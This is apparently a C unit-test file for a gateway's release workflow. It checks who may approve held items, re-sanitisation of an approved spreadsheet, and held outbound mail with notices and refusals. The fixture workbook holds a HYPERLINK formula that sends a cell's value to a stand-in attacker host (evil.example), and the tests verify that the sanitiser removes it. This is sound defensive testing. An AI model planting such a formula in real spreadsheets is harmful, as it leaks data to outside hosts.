/* Release (src/gate/release.c): who may decide, the console's submit path keeping the
 * delivered result, and an approved held item processed again with the flow's profile —
 * the case: a held lgwan→internet xlsx with a HYPERLINK formula came out as the
 * original. */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <zip.h>

#include "sekisho/audit.h"
#include "sekisho/policy.h"
#include "sekisho/quarantine.h"
#include "sekisho/release.h"
#include "testutil.h"

struct env {
	char *dir;
	sk_audit *a;
	sk_quarantine *q;
	sk_policy *p;
	sk_options opt;
	char out[96], sendmail[96], fail[96]; /* held mail: the fake sendmail's */
};

/* The state folder's audit log and quarantine, the policy (text; NULL: the example
 * policy) and the gate's options on them. */
static void env_open(struct env *e, const char *policy)
{
	sk_error err;
	sk_policy_diags d;
	sk_policy_diags_init(&d);
	int32_t day = sk_policy_date_parse("2025-01-01");
	if (sk_audit_open(e->dir, NULL, &e->a, &err) ||
	    sk_quarantine_open(e->dir, e->a, NULL, &e->q, &err) ||
	    (policy ? sk_policy_parse(policy, strlen(policy), day, &e->p, &d, &err)
		    : sk_policy_load(tu_src("examples/policy/default.yaml"), day, &e->p, &d, &err)))
		fail_msg("open: %s", err.msg);
	sk_policy_diags_free(&d);
	sk_options_default(&e->opt);
	e->opt.quarantine = e->q;
	e->opt.audit = e->a;
	e->opt.policy = e->p;
	e->opt.today = day;
}

static struct env *env_new(void)
{
	struct env *e = calloc(1, sizeof(*e));
	e->dir = strdup("/tmp/sk-rel-XXXXXX");
	assert_non_null(mkdtemp(e->dir));
	env_open(e, NULL);
	return e;
}

static void env_free(struct env *e)
{
	sk_quarantine_close(e->q);
	sk_audit_close(e->a);
	sk_policy_free(e->p);
	char cmd[256];
	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", e->dir);
	assert_int_equal(system(cmd), 0);
	free(e->dir);
	free(e);
}

static const char sheet_hyperlink[] =
	"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
	"<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>"
	"<row r=\"1\"><c r=\"A1\"><v>1</v></c><c r=\"B1\" t=\"str\">"
	"<f>HYPERLINK(\"http://evil.example/?\"&amp;A1,\"click\")</f><v>click</v></c></row>"
	"</sheetData></worksheet>";

/* A small workbook whose sheet holds a HYPERLINK formula. */
static void make_xlsx(sk_buf *out)
{
	static const char *const parts[][2] = {
		{"[Content_Types].xml",
		 "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
		 "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
		 "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
		 "<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/>"
		 "<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/></Types>"},
		{"_rels/.rels",
		 "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
		 "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>"},
		{"xl/workbook.xml",
		 "<?xml version=\"1.0\" encoding=\"UTF-8\"?><workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
		 "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheets><sheet name=\"Data\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>"},
		{"xl/_rels/workbook.xml.rels",
		 "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
		 "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" Target=\"worksheets/sheet1.xml\"/></Relationships>"},
		{"xl/worksheets/sheet1.xml", sheet_hyperlink},
	};
	zip_error_t ze;
	zip_error_init(&ze);
	zip_source_t *src = zip_source_buffer_create(NULL, 0, 0, &ze);
	assert_non_null(src);
	zip_t *z = zip_open_from_source(src, ZIP_TRUNCATE, &ze);
	assert_non_null(z);
	zip_source_keep(src);
	for (size_t i = 0; i < sizeof(parts) / sizeof(parts[0]); i++) {
		zip_source_t *s = zip_source_buffer(z, parts[i][1], strlen(parts[i][1]), 0);
		assert_true(zip_file_add(z, parts[i][0], s, ZIP_FL_ENC_UTF_8) >= 0);
	}
	assert_int_equal(zip_close(z), 0);
	assert_int_equal(zip_source_open(src), 0);
	zip_source_seek(src, 0, SEEK_END);
	zip_int64_t n = zip_source_tell(src);
	zip_source_seek(src, 0, SEEK_SET);
	sk_buf_init(out, 0);
	assert_int_equal(sk_buf_reserve(out, (size_t)n), 0);
	assert_int_equal(zip_source_read(src, out->data, (zip_uint64_t)n), n);
	out->len = (size_t)n;
	zip_source_close(src);
	zip_source_free(src);
}

/* The sheet of a workbook in memory (caller frees). */
static char *sheet_of(const sk_buf *b)
{
	zip_error_t ze;
	zip_error_init(&ze);
	zip_source_t *src = zip_source_buffer_create(b->data, b->len, 0, &ze);
	zip_t *z = zip_open_from_source(src, ZIP_RDONLY, &ze);
	assert_non_null(z);
	zip_file_t *f = zip_fopen(z, "xl/worksheets/sheet1.xml", 0);
	assert_non_null(f);
	char *x = calloc(1, 65536);
	zip_fread(f, x, 65535);
	zip_fclose(f);
	zip_discard(z);
	return x;
}

static void read_fd(int fd, sk_buf *b)
{
	sk_buf_init(b, 0);
	char buf[4096];
	ssize_t r;
	off_t off = 0;
	while ((r = pread(fd, buf, sizeof(buf), off)) > 0) {
		sk_buf_add(b, buf, (size_t)r);
		off += r;
	}
}

static void rights(sk_auth_rights *r, const char *role, const char *section, uint32_t perms)
{
	memset(r, 0, sizeof(*r));
	if (role) {
		snprintf(r->roles[0], sizeof(r->roles[0]), "%s", role);
		r->nroles = 1;
	}
	snprintf(r->section, sizeof(r->section), "%s", section ? section : "");
	r->perms = perms;
}

/* The rights check: the hold role, or approve within the item's section; release-original
 * for originals; never the requester. */
static void may_decide(void **state)
{
	(void)state;
	sk_qitem it = {.hold_role = "security-manager", .submitter_section = "soumu"};
	sk_qrequest rq = {.kind = SK_QKIND_RELEASE, .requester_uid = 5};
	sk_qactor who = {.uid = 6, .name = "kacho"}, self = {.uid = 5, .name = "Tanaka"};
	sk_auth_rights r;
	sk_qdeny d;
	rights(&r, "security-manager", "kikaku", SK_PERM_APPROVE);
	assert_int_equal(sk_release_may_decide(NULL, &it, &rq, &who, &r, &d), 0);
	assert_int_equal(sk_release_may_decide(NULL, &it, &rq, &self, &r, &d), SK_EINVAL);
	assert_int_equal(d, SK_QDENY_SELF_APPROVAL);
	rights(&r, "staff", "soumu", SK_PERM_APPROVE);
	assert_int_equal(sk_release_may_decide(NULL, &it, &rq, &who, &r, &d), SK_EINVAL);
	assert_int_equal(d, SK_QDENY_NOT_APPROVER);
	/* no hold role: approve within the item's section */
	it.hold_role = NULL;
	assert_int_equal(sk_release_may_decide(NULL, &it, &rq, &who, &r, &d), 0);
	rights(&r, "staff", "kikaku", SK_PERM_APPROVE);
	assert_int_equal(sk_release_may_decide(NULL, &it, &rq, &who, &r, &d), SK_EINVAL);
	assert_int_equal(d, SK_QDENY_NOT_APPROVER);
	rights(&r, "staff", "soumu", SK_PERM_DOWNLOAD);
	assert_int_equal(sk_release_may_decide(NULL, &it, &rq, &who, &r, &d), SK_EINVAL);
	/* an item of no section: approve suffices */
	it.submitter_section = NULL;
	rights(&r, "staff", "kikaku", SK_PERM_APPROVE);
	assert_int_equal(sk_release_may_decide(NULL, &it, &rq, &who, &r, &d), 0);
	it.submitter_section = "soumu";
	/* an original needs release-original too */
	rq.kind = SK_QKIND_ORIGINAL;
	rights(&r, "x", "kikaku", SK_PERM_DOWNLOAD); /* not an approver at all: says so first */
	assert_int_equal(sk_release_may_decide(NULL, &it, &rq, &who, &r, &d), SK_EINVAL);
	assert_int_equal(d, SK_QDENY_NOT_APPROVER);
	rights(&r, "x", "soumu", SK_PERM_APPROVE);
	assert_int_equal(sk_release_may_decide(NULL, &it, &rq, &who, &r, &d), SK_EINVAL);
	assert_int_equal(d, SK_QDENY_NO_RIGHT);
	rights(&r, "x", "soumu", SK_PERM_APPROVE | SK_PERM_RELEASE_ORIGINAL);
	assert_int_equal(sk_release_may_decide(NULL, &it, &rq, &who, &r, &d), 0);
	assert_int_equal(sk_release_needed(NULL, SK_QKIND_RELEASE), 1);
	assert_int_equal(sk_release_needed(NULL, SK_QKIND_ORIGINAL), 2);
}

/* The console's upload keeps the delivered result; a blocked item has none. */
static void submit_keeps_result(void **state)
{
	(void)state;
	struct env *e = env_new();
	static const char txt[] = "会議資料です。\n";
	sk_item item = {.name = "memo.txt", .src_zone = "internet", .dst_zone = "lgwan",
			.submitter = "tanaka", .submitter_uid = 5, .submitter_section = "soumu"};
	sk_input_mem(&item.input, txt, sizeof(txt) - 1);
	sk_result res;
	sk_error err;
	assert_int_equal(sk_gate_submit(&item, &e->opt, &res, &err), 0);
	assert_int_not_equal(res.report.verdict, SK_VERDICT_BLOCKED);
	/* the same bytes as the gate's own output for it */
	sk_buf want;
	sk_buf_init(&want, 0);
	sk_output o;
	sk_output_buf(&o, &want);
	sk_options plain = e->opt;
	plain.quarantine = NULL;
	plain.audit = NULL;
	sk_result r2;
	assert_int_equal(sk_process(&item, &plain, &o, &r2, &err), 0);
	sk_result_free(&r2);
	int fd;
	uint64_t size;
	assert_int_equal(sk_quarantine_result_open(e->q, res.quarantine_id, &fd, &size, &err), 0);
	sk_buf got;
	read_fd(fd, &got);
	close(fd);
	assert_int_equal(got.len, want.len);
	assert_int_equal(size, want.len);
	assert_memory_equal(got.data, want.data, got.len);
	sk_qitem it;
	assert_int_equal(sk_quarantine_get(e->q, res.quarantine_id, &it, &err), 0);
	assert_int_equal(it.submitter_uid, 5);
	assert_string_equal(it.submitter_section, "soumu");
	assert_string_equal(it.channel, "file");
	sk_qitem_free(&it);
	sk_buf_free(&got);
	sk_buf_free(&want);
	sk_result_free(&res);
	/* blocked: nothing stored to hand out */
	static const char exe[] = "MZ\x90\x00\x03\x00\x00\x00 this program cannot be run";
	sk_input_mem(&item.input, exe, sizeof(exe) - 1);
	item.name = "a.exe";
	assert_int_equal(sk_gate_submit(&item, &e->opt, &res, &err), 0);
	assert_int_equal(res.report.verdict, SK_VERDICT_BLOCKED);
	assert_int_equal(sk_quarantine_result_open(e->q, res.quarantine_id, &fd, &size, &err),
			 SK_ENOTFOUND);
	sk_result_free(&res);
	/* no scratch file is left in the state folder */
	char cmd[512];
	snprintf(cmd, sizeof(cmd), "test -z \"$(find '%s' -maxdepth 1 -name '.scratch*')\"", e->dir);
	assert_int_equal(system(cmd), 0);
	env_free(e);
}

/* The case: lgwan → internet xlsx held (security-manager); the requester cannot
 * approve; a security manager approves; the result is the flow's profile applied to the
 * original: not the original's bytes, the HYPERLINK formula gone. */
static void approved_release_is_sanitised(void **state)
{
	(void)state;
	struct env *e = env_new();
	sk_buf x;
	make_xlsx(&x);
	char *orig_sheet = sheet_of(&x);
	assert_non_null(strstr(orig_sheet, "HYPERLINK"));
	free(orig_sheet);
	sk_item item = {.name = "集計.xlsx", .src_zone = "lgwan", .dst_zone = "internet",
			.channel = "file", .submitter = "tanaka", .submitter_uid = 5,
			.submitter_section = "soumu"};
	sk_input_mem(&item.input, x.data, x.len);
	sk_result res;
	sk_error err;
	assert_int_equal(sk_gate_submit(&item, &e->opt, &res, &err), 0);
	assert_int_equal(res.report.verdict, SK_VERDICT_BLOCKED);
	assert_int_equal(res.report.reason, SK_REASON_HELD);
	char id[24];
	snprintf(id, sizeof(id), "%s", res.quarantine_id);
	sk_result_free(&res);
	int fd;
	uint64_t size;
	assert_int_equal(sk_quarantine_result_open(e->q, id, &fd, &size, &err), SK_ENOTFOUND);
	sk_qitem it;
	assert_int_equal(sk_quarantine_get(e->q, id, &it, &err), 0);
	assert_string_equal(it.hold_role, "security-manager");
	sk_qitem_free(&it);

	sk_qactor tanaka = {.uid = 5, .name = "tanaka", .section = "soumu"};
	sk_qactor kacho = {.uid = 6, .name = "joho-kacho"};
	sk_qdeny d;
	int64_t rid = 0;
	assert_int_equal(sk_quarantine_request_create(e->q, id, SK_QKIND_RELEASE, &tanaka, "送付先へ",
						      sk_release_needed(e->p, SK_QKIND_RELEASE), &rid,
						      &d, &err), 0);
	sk_auth_rights r;
	rights(&r, "security-manager", "joho", SK_PERM_APPROVE);
	sk_release_outcome out;
	/* the requester, even holding the role, cannot approve */
	assert_int_equal(sk_release_approve(&e->opt, rid, &tanaka, &r, NULL, &out, &d, &err), SK_EINVAL);
	assert_int_equal(d, SK_QDENY_SELF_APPROVAL);
	/* another user without the role cannot either */
	sk_auth_rights staff;
	rights(&staff, "staff", "soumu", SK_PERM_REQUEST);
	sk_qactor other = {.uid = 7, .name = "suzuki"};
	assert_int_equal(sk_release_approve(&e->opt, rid, &other, &staff, NULL, &out, &d, &err),
			 SK_EINVAL);
	assert_int_equal(d, SK_QDENY_NOT_APPROVER);
	assert_int_equal(sk_release_approve(&e->opt, rid, &kacho, &r, "確認しました", &out, &d, &err), 0);
	assert_true(out.complete);
	assert_true(out.released);
	assert_int_not_equal(out.verdict, SK_VERDICT_BLOCKED);
	assert_int_equal(sk_quarantine_get(e->q, id, &it, &err), 0);
	assert_int_equal(it.state, SK_QSTATE_RELEASED);
	assert_string_equal(it.released_by, "joho-kacho");
	sk_qitem_free(&it);
	assert_int_equal(sk_quarantine_result_open(e->q, id, &fd, &size, &err), 0);
	sk_buf got;
	read_fd(fd, &got);
	close(fd);
	/* not the original, and the formula is gone (its value stays) */
	assert_false(got.len == x.len && memcmp(got.data, x.data, x.len) == 0);
	char *sheet = sheet_of(&got);
	assert_null(strstr(sheet, "HYPERLINK"));
	assert_non_null(strstr(sheet, "click"));
	free(sheet);
	sk_buf_free(&got);

	/* a second held copy whose stored original is damaged afterwards: the rerun blocks,
	 * nothing is deliverable, the request says why */
	sk_input_mem(&item.input, x.data, x.len);
	assert_int_equal(sk_gate_submit(&item, &e->opt, &res, &err), 0);
	snprintf(id, sizeof(id), "%s", res.quarantine_id);
	char hex[SK_SHA256_HEX];
	sk_hex(res.sha256, SK_SHA256_LEN, hex);
	sk_result_free(&res);
	assert_int_equal(sk_quarantine_request_create(e->q, id, SK_QKIND_RELEASE, &tanaka, "再送", 1,
						      &rid, &d, &err), 0);
	char *obj = sk_quarantine_object_path(e->q, hex);
	FILE *f = fopen(obj, "r+");
	fputc('Z', f);
	fclose(f);
	free(obj);
	assert_int_equal(sk_release_approve(&e->opt, rid, &kacho, &r, NULL, &out, &d, &err), 0);
	assert_true(out.complete);
	assert_false(out.released);
	assert_int_equal(out.verdict, SK_VERDICT_BLOCKED);
	assert_int_equal(sk_quarantine_result_open(e->q, id, &fd, &size, &err), SK_ENOTFOUND);
	sk_qrequest rq;
	assert_int_equal(sk_quarantine_request_get(e->q, rid, &rq, &err), 0);
	assert_non_null(rq.outcome);
	assert_int_equal(strncmp(rq.outcome, "blocked ", 8), 0);
	sk_qrequest_free(&rq);
	assert_int_equal(sk_quarantine_get(e->q, id, &it, &err), 0);
	assert_int_equal(it.state, SK_QSTATE_HELD);
	sk_qitem_free(&it);
	sk_buf_free(&x);
	sk_audit_verify_result vr;
	assert_int_equal(sk_audit_verify(e->a, NULL, NULL, 0, &vr, &err), 0);
	assert_true(vr.ok);
	env_free(e);
}

/* ---- held mail (outbound): the request the gate opens, the sender's notices, sending
 * the released result to the stored envelope ---- */

/* The state, a fake sendmail and a policy whose outbound mail flow holds a 個人番号. */
static struct env *mail_env_new(void)
{
	struct env *e = calloc(1, sizeof(*e));
	e->dir = strdup("/tmp/sk-relm-XXXXXX");
	assert_non_null(mkdtemp(e->dir));
	snprintf(e->out, sizeof(e->out), "%s/out", e->dir);
	snprintf(e->sendmail, sizeof(e->sendmail), "%s/sendmail", e->dir);
	snprintf(e->fail, sizeof(e->fail), "%s/fail", e->dir);
	assert_int_equal(mkdir(e->out, 0700), 0);
	/* keeps each call's arguments and message as out/N.args, out/N.msg; fails (status 75)
	 * while the file `fail` exists */
	FILE *f = fopen(e->sendmail, "w");
	assert_non_null(f);
	fprintf(f,
		"#!/bin/sh\n"
		"if [ -e '%s' ]; then cat > /dev/null; echo 'queue file write error' >&2; exit 75; fi\n"
		"n=$(ls '%s' | wc -l); n=$((n / 2))\n"
		"printf '%%s\\n' \"$@\" > '%s'/$n.args\n"
		"cat > '%s'/$n.msg\n",
		e->fail, e->out, e->out, e->out);
	fclose(f);
	assert_int_equal(chmod(e->sendmail, 0700), 0);
	char pol[4096];
	snprintf(pol, sizeof(pol),
		 "version: 1\n"
		 "zones:\n"
		 "  mynumber: { networks: [192.0.2.0/25], gateway: { interface: a, address: 192.0.2.1 } }\n"
		 "  lgwan: { networks: [198.51.100.0/24], gateway: { interface: b, address: 198.51.100.1 } }\n"
		 "  internet: { networks: [203.0.113.0/24], gateway: { interface: c, address: 203.0.113.1 } }\n"
		 "internal_domains: [city.example.lg.jp]\n"
		 "classification:\n  dimensions:\n    機密性: { levels: [\"2\", \"1\"], default: \"1\" }\n"
		 "dlp: { hold_role: security-manager }\n"
		 "flows:\n"
		 "  - id: lgwan-internet-mail\n"
		 "    from: lgwan\n    to: internet\n    channel: mail\n"
		 "    action: { sanitize: default }\n"
		 "    dlp: { mynumber: hold, corporate: record, pattern: record, unscannable: record }\n"
		 "gateway:\n  sendmail: %s\n",
		 e->sendmail);
	env_open(e, pol);
	return e;
}

/* A message from `from` to `to` through the gate (in process); its quarantine id. */
static void mail_through(struct env *e, const char *from, const char *to, const char *body,
			 bool want_held, char id[24])
{
	char msg[2048];
	snprintf(msg, sizeof(msg),
		 "From: %s\nTo: %s\nSubject: =?UTF-8?B?55Sz6KuL5pu4?=\nMessage-ID: <t@city>\n"
		 "MIME-Version: 1.0\nContent-Type: text/plain; charset=UTF-8\n\n%s",
		 from, to, body);
	const char *rcpt[] = {to};
	sk_item item = {.src_zone = "lgwan", .dst_zone = "internet", .submitter = "milter",
			.env_from = from, .env_rcpt = rcpt, .env_nrcpt = 1};
	sk_input_mem(&item.input, msg, strlen(msg));
	sk_mail_options mo;
	sk_mail_options_default(&mo);
	sk_buf out;
	sk_buf_init(&out, 0);
	sk_result res;
	sk_mail_result mres;
	sk_error err;
	assert_int_equal(sk_gate_mail(&item, &mo, &e->opt, &out, &res, &mres, &err), 0);
	assert_int_equal(mres.held, want_held);
	if (want_held)
		assert_int_equal(res.report.reason, SK_REASON_HELD);
	snprintf(id, 24, "%s", res.quarantine_id);
	sk_result_free(&res);
	sk_buf_free(&out);
}

/* The fake sendmail's call number n: its arguments, and the message's subject and text
 * as python3's email module reads them (or the raw message when raw). */
static void sent_msg(struct env *e, int n, sk_buf *args, sk_buf *text, bool raw)
{
	char p[160];
	snprintf(p, sizeof(p), "%s/%d.args", e->out, n);
	sk_buf_free(args);
	tu_read(p, args);
	snprintf(p, sizeof(p), "%s/%d.msg", e->out, n);
	sk_buf_free(text);
	if (raw) {
		tu_read(p, text);
		return;
	}
	char cmd[1024];
	snprintf(cmd, sizeof(cmd),
		 "/usr/bin/python3 -c 'import email, email.policy, sys\n"
		 "m = email.message_from_binary_file(open(sys.argv[1], \"rb\"), policy=email.policy.default)\n"
		 "open(sys.argv[2], \"w\", encoding=\"utf-8\").write(str(m[\"subject\"]) + \"\\n\" + m.get_content())\n"
		 "' '%s' '%s/%d.txt'",
		 p, e->dir, n);
	assert_int_equal(system(cmd), 0);
	snprintf(p, sizeof(p), "%s/%d.txt", e->dir, n);
	tu_read(p, text);
}

struct count_ctx {
	const char *action, *result;
	int n;
};

static int count_action(void *ctx, const sk_audit_record *r)
{
	struct count_ctx *c = ctx;
	if (!strcmp(r->action, c->action) && !strcmp(r->result, c->result))
		c->n++;
	return 0;
}

static int audited(struct env *e, const char *action, const char *result)
{
	struct count_ctx c = {action, result, 0};
	sk_error err;
	assert_int_equal(sk_audit_list(e->a, 0, count_action, &c, &err), 0);
	return c.n;
}

/* the 個人番号 below in every form a notice could show it */
static void no_number(const sk_buf *b)
{
	const char *s = (const char *)b->data;
	assert_null(strstr(s, "3847-5629-1044"));
	assert_null(strstr(s, "384756291044"));
	assert_null(strstr(s, "5629"));
}

static const char MYN_BODY[] = "申請者 山田\n個人番号: 3847-5629-1044\n";

static void held_mail_request_notice_send(void **state)
{
	(void)state;
	struct env *e = mail_env_new();
	sk_error err;
	char id[24];
	mail_through(e, "kikaku@city.example.lg.jp", "partner@example.com", MYN_BODY, true, id);
	sk_qitem it;
	assert_int_equal(sk_quarantine_get(e->q, id, &it, &err), 0);
	assert_string_equal(it.env_from, "kikaku@city.example.lg.jp");
	assert_int_equal(it.env_nrcpt, 1);
	assert_string_equal(it.env_rcpt[0], "partner@example.com");
	assert_string_equal(it.hold_role, "security-manager");
	sk_qitem_free(&it);

	/* the request, opened by the gate for the system requester */
	int64_t rid = 0;
	assert_int_equal(sk_release_mail_request(&e->opt, id, NULL, &rid, &err), 0);
	sk_qrequest rq;
	assert_int_equal(sk_quarantine_request_get(e->q, rid, &rq, &err), 0);
	assert_int_equal(rq.requester_uid, SK_RELEASE_SYSTEM_UID);
	assert_string_equal(rq.requester, "milter");
	assert_non_null(strstr(rq.reason, "dlp mynumber"));
	assert_null(strstr(rq.reason, "5629"));
	sk_qrequest_free(&rq);
	assert_int_equal(sk_release_mail_request(&e->opt, id, NULL, &rid, &err), SK_EINVAL);

	/* the sender's notice: Japanese then English, the rule, the finding masked, the id */
	bool sent = false;
	assert_int_equal(sk_release_mail_notice(&e->opt, id, SK_RELEASE_NOTICE_HELD, NULL, NULL,
						&sent, &err), 0);
	assert_true(sent);
	sk_buf args, text;
	sk_buf_init(&args, 0);
	sk_buf_init(&text, 0);
	sent_msg(e, 0, &args, &text, false);
	assert_string_equal(sk_buf_str(&args), "-oi\n--\nkikaku@city.example.lg.jp\n");
	const char *t = sk_buf_str(&text);
	assert_non_null(strstr(t, "送信メールを保留しました"));
	assert_non_null(strstr(t, "Your mail is held for approval"));
	assert_non_null(strstr(t, id));
	assert_non_null(strstr(t, "partner@example.com"));
	assert_non_null(strstr(t, "dlp mynumber (flows[0] lgwan-internet-mail)"));
	assert_non_null(strstr(t, "個人番号"));
	assert_non_null(strstr(t, "****-****-****"));
	assert_true(strstr(t, "保留しました") < strstr(t, "held for approval")); /* Japanese first */
	no_number(&text);
	assert_int_equal(audited(e, "mail-notice", "sent held"), 1);

	/* the sender cannot approve, even holding the role: by mail address (they are no
	 * requester by id); a security manager can: the result goes to the envelope */
	sk_auth_rights r;
	rights(&r, "security-manager", "joho", SK_PERM_APPROVE);
	sk_qactor sender = {.uid = 9, .name = "kikaku", .mail = "Kikaku@City.Example.LG.JP"};
	sk_qactor kacho = {.uid = 6, .name = "joho-kacho", .mail = "kacho@city.example.lg.jp"};
	sk_release_outcome out;
	sk_qdeny d;
	assert_int_equal(sk_release_approve(&e->opt, rid, &sender, &r, NULL, &out, &d, &err), SK_EINVAL);
	assert_int_equal(d, SK_QDENY_SELF_APPROVAL);
	assert_int_equal(sk_release_approve(&e->opt, rid, &kacho, &r, "確認済み", &out, &d, &err), 0);
	assert_true(out.complete && out.released && out.mail && out.mail_sent);
	assert_string_equal(out.mail_error, "");
	sent_msg(e, 1, &args, &text, true);
	assert_string_equal(sk_buf_str(&args),
			    "-oi\n-f\nkikaku@city.example.lg.jp\n--\npartner@example.com\n");
	/* the released result: sanitised by the flow's profile (the approval lifted the hold) */
	int fd;
	uint64_t size;
	assert_int_equal(sk_quarantine_result_open(e->q, id, &fd, &size, &err), 0);
	sk_buf res;
	read_fd(fd, &res);
	close(fd);
	assert_int_equal(text.len, res.len);
	assert_memory_equal(text.data, res.data, res.len);
	assert_non_null(strstr(sk_buf_str(&text), "X-Mail-Sanitized: "));
	sk_buf_free(&res);
	assert_int_equal(sk_quarantine_get(e->q, id, &it, &err), 0);
	assert_true(it.mail_sent_us > 0);
	assert_null(it.mail_error);
	sk_qitem_free(&it);
	assert_int_equal(audited(e, "mail-send", "sent"), 1);
	/* never twice */
	assert_int_equal(sk_release_send(&e->opt, id, "joho-kacho", &err), SK_EINVAL);

	/* a sender outside internal_domains is never told */
	char id2[24];
	mail_through(e, "someone@example.net", "partner@example.com", MYN_BODY, true, id2);
	assert_int_equal(sk_release_mail_notice(&e->opt, id2, SK_RELEASE_NOTICE_HELD, NULL, NULL,
						&sent, &err), 0);
	assert_false(sent);
	/* not held: no request */
	char id3[24];
	mail_through(e, "kikaku@city.example.lg.jp", "partner@example.com", "会議は10時です。\n",
		     false, id3);
	assert_int_equal(sk_release_mail_request(&e->opt, id3, NULL, &rid, &err), SK_EINVAL);
	sk_buf_free(&args);
	sk_buf_free(&text);
	sk_audit_verify_result vr;
	assert_int_equal(sk_audit_verify(e->a, NULL, NULL, 0, &vr, &err), 0);
	assert_true(vr.ok);
	env_free(e);
}

/* The MTA refuses the released message: visible (the outcome, the item), audited, sent
 * once it takes it again; a refused release bounces to the sender naming the rule. */
static void held_mail_send_failure_and_refusal(void **state)
{
	(void)state;
	struct env *e = mail_env_new();
	sk_error err;
	char id[24];
	mail_through(e, "kikaku@city.example.lg.jp", "partner@example.com", MYN_BODY, true, id);
	int64_t rid;
	sk_qactor yamada = {.uid = 9, .name = "yamada", .mail = "kikaku@city.example.lg.jp"};
	assert_int_equal(sk_release_mail_request(&e->opt, id, &yamada, &rid, &err), 0);
	sk_auth_rights r;
	rights(&r, "security-manager", "joho", SK_PERM_APPROVE);
	sk_qactor kacho = {.uid = 6, .name = "joho-kacho"};
	sk_release_outcome out;
	sk_qdeny d;
	/* the requester (a console user) cannot approve by id either */
	assert_int_equal(sk_release_approve(&e->opt, rid, &yamada, &r, NULL, &out, &d, &err), SK_EINVAL);
	assert_int_equal(d, SK_QDENY_SELF_APPROVAL);
	FILE *f = fopen(e->fail, "w");
	fclose(f);
	assert_int_equal(sk_release_approve(&e->opt, rid, &kacho, &r, NULL, &out, &d, &err), 0);
	assert_true(out.complete && out.released && out.mail);
	assert_false(out.mail_sent);
	assert_non_null(strstr(out.mail_error, "status 75"));
	sk_qitem it;
	assert_int_equal(sk_quarantine_get(e->q, id, &it, &err), 0);
	assert_int_equal(it.mail_sent_us, 0);
	assert_non_null(strstr(it.mail_error, "status 75"));
	sk_qitem_free(&it);
	assert_int_equal(audited(e, "mail-send", "failed"), 1);
	/* again, once the MTA takes it */
	assert_int_equal(sk_release_send(&e->opt, id, "joho-kacho", &err), SK_EIO);
	unlink(e->fail);
	assert_int_equal(sk_release_send(&e->opt, id, "joho-kacho", &err), 0);
	assert_int_equal(sk_quarantine_get(e->q, id, &it, &err), 0);
	assert_true(it.mail_sent_us > 0);
	assert_null(it.mail_error);
	sk_qitem_free(&it);
	assert_int_equal(audited(e, "mail-send", "sent"), 1);
	sk_buf args, text;
	sk_buf_init(&args, 0);
	sk_buf_init(&text, 0);
	sent_msg(e, 0, &args, &text, true);
	assert_string_equal(sk_buf_str(&args),
			    "-oi\n-f\nkikaku@city.example.lg.jp\n--\npartner@example.com\n");

	/* refused: the bounce to the sender, Japanese and English, the rule and the comment */
	char id2[24];
	mail_through(e, "kikaku@city.example.lg.jp", "partner@example.com", MYN_BODY, true, id2);
	assert_int_equal(sk_release_mail_request(&e->opt, id2, NULL, &rid, &err), 0);
	assert_int_equal(sk_release_refuse(&e->opt, rid, &kacho, &r, "個人番号は送れません", &d, &err), 0);
	sent_msg(e, 1, &args, &text, false);
	assert_string_equal(sk_buf_str(&args), "-oi\n--\nkikaku@city.example.lg.jp\n");
	const char *t = sk_buf_str(&text);
	assert_non_null(strstr(t, "送信メールの送信は却下されました"));
	assert_non_null(strstr(t, "The release of your mail was refused"));
	assert_non_null(strstr(t, "個人番号は送れません"));
	assert_non_null(strstr(t, "joho-kacho"));
	assert_non_null(strstr(t, "dlp mynumber"));
	assert_non_null(strstr(t, id2));
	no_number(&text);
	assert_int_equal(audited(e, "mail-notice", "sent refused"), 1);
	/* nothing else went to the MTA: the refused message itself never */
	char p[160];
	snprintf(p, sizeof(p), "%s/2.msg", e->out);
	assert_int_not_equal(access(p, F_OK), 0);
	/* a notice the MTA refuses: kept on the item, audited, the refusal stands */
	mail_through(e, "kikaku@city.example.lg.jp", "partner@example.com", MYN_BODY, true, id2);
	assert_int_equal(sk_release_mail_request(&e->opt, id2, NULL, &rid, &err), 0);
	f = fopen(e->fail, "w");
	fclose(f);
	assert_int_equal(sk_release_refuse(&e->opt, rid, &kacho, &r, "不可", &d, &err), 0);
	assert_int_equal(sk_quarantine_get(e->q, id2, &it, &err), 0);
	assert_non_null(strstr(it.mail_error, "notice refused"));
	sk_qitem_free(&it);
	assert_int_equal(audited(e, "mail-notice", "failed refused"), 1);
	sk_buf_free(&args);
	sk_buf_free(&text);
	env_free(e);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(may_decide),
		cmocka_unit_test(submit_keeps_result),
		cmocka_unit_test(approved_release_is_sanitised),
		cmocka_unit_test(held_mail_request_notice_send),
		cmocka_unit_test(held_mail_send_failure_and_refusal),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
